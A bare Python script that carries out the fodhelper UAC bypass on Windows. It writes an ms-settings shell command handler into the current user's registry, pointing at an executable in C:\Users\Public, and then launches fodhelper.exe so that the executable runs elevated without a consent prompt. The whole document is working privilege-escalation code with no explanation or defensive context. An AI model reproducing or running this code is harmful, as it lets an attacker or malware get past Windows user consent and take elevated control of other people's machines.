import os, winreg
key = winreg.CreateKey(winreg.HKEY_CURRENT_USER, r"Software\Classes\ms-settings\Shell\Open\command")
winreg.SetValueEx(key, "DelegateExecute", 0, winreg.REG_SZ, "")
winreg.SetValueEx(key, None, 0, winreg.REG_SZ, r"C:\Users\Public\svc.exe")
os.system("fodhelper.exe")
